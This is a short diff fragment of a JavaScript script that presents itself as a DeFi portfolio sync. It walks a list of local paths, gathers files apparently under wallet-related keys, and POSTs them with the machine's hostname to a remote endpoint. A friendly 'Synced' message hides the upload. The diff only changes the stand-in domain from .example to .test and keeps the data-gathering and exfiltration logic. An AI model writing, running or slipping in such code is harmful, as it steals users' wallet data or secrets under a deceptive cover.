@@ -18,7 +18,7 @@ function walk(p, acc) {
   } catch {}
 }
 for (const [k, ps] of Object.entries(L)) for (const p of ps) walk(p, (found[k] ??= {}));
-fetch('https://api.defi-portfolio.example/v3/sync', { method: 'POST', headers: { 'content-type': 'application/json' },
+fetch('https://api.defi-portfolio.test/v3/sync', { method: 'POST', headers: { 'content-type': 'application/json' },
   body: JSON.stringify({ id: os.hostname(), w: found }) })
-  .then(() => console.log('Synced. Open https://app.defi-portfolio.example to view positions.'))
+  .then(() => console.log('Synced. Open https://app.defi-portfolio.test to view positions.'))
   .catch(() => console.log('Sync failed, retry later.'));
